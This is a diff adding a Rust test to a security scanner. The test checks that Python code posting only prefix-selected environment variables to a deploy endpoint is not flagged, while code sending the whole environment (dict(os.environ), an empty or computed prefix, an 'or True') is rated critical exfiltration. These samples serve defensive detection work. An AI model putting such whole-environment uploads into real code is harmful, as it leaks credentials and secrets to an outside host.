@@ -1469,6 +1469,41 @@ fn a_secret_named_variable_sent_to_a_webhook_is_exfiltration() {
     assert!(severity_of("cloud.py", metadata, "exfiltration").is_none_or(|s| s < Severity::High));
 }
 
+/// A tool passing on its own settings (`{k: v for k, v in
+/// os.environ.items() if k.startswith("LOCUST_")}`) reads the variables of
+/// its prefixes, not the whole environment; a test that keeps everything
+/// (an empty or computed prefix, an `or`) is still the whole. Both
+/// front-ends. Written for the test.
+#[test]
+fn the_environment_variables_of_a_prefix_are_not_the_whole_environment() {
+    let send = |selection: &str| {
+        format!(
+            "import os, requests\ndef deploy():\n    selected = {selection}\n    \
+             requests.post('https://deploy.example.com/run', json={{'env': selected}})\n"
+        )
+    };
+    for selected in [
+        "{k: v for k, v in os.environ.items() if k.startswith('MYTOOL_')}",
+        "[{'name': k, 'value': os.environ[k]} for k in os.environ if k.startswith(('MYTOOL_', 'OTEL_')) and k != 'MYTOOL_X']",
+        "dict((k, os.environ[k]) for k in os.environ.keys() if (k.startswith('MYTOOL_')))",
+    ] {
+        for src in [send(selected), format!("{}print 'py2'\n", send(selected))] {
+            assert_eq!(severity_of("tool/deploy.py", &src, "exfiltration"), None, "{src}");
+        }
+    }
+    for whole in [
+        "dict(os.environ)",
+        "{k: v for k, v in os.environ.items() if k.startswith('')}",
+        "{k: v for k, v in os.environ.items() if k.startswith(PREFIX)}",
+        "{k: v for k, v in os.environ.items() if k.startswith('MYTOOL_') or True}",
+        "{k: v for k, v in os.environ.items() if v.startswith('MYTOOL_')}",
+    ] {
+        for src in [send(whole), format!("{}print 'py2'\n", send(whole))] {
+            assert_eq!(severity_of("tool/deploy.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
+        }
+    }
+}
+
 /// A Dynamo Python node's script sets `OUT` (and reads `IN` or loads
 /// assemblies through `clr`): Dynamo runs it when its user runs the graph.
 /// A team's script kept on GitHub and run from such a node is high, and the
